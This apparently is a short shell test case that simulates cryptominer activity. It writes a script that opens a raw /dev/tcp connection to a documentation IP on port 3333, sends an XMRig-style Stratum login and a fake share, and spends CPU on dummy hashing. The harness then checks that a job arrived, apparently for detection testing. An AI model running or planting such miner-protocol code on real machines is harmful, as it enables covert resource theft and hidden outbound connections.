#!/bin/sh
. /opt/case/case.sh

cat >/tmp/m.sh <<'END'
exec 4<>/dev/tcp/203.0.113.10/3333
printf '{"id":1,"method":"login","params":{"login":"4BAIT","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}\n' >&4
IFS= read -r -t 5 job <&4
printf '%s\n' "$job" >/tmp/job
for nonce in $(seq 1 300); do printf '%s%s' "$job" "$nonce" | sha256sum; done >/dev/null
printf '{"id":2,"method":"submit","params":{"id":"1","job_id":"1","nonce":"00000001","result":"00"}}\n' >&4
END
bash /tmp/m.sh
grep -q job_id /tmp/job
took_place
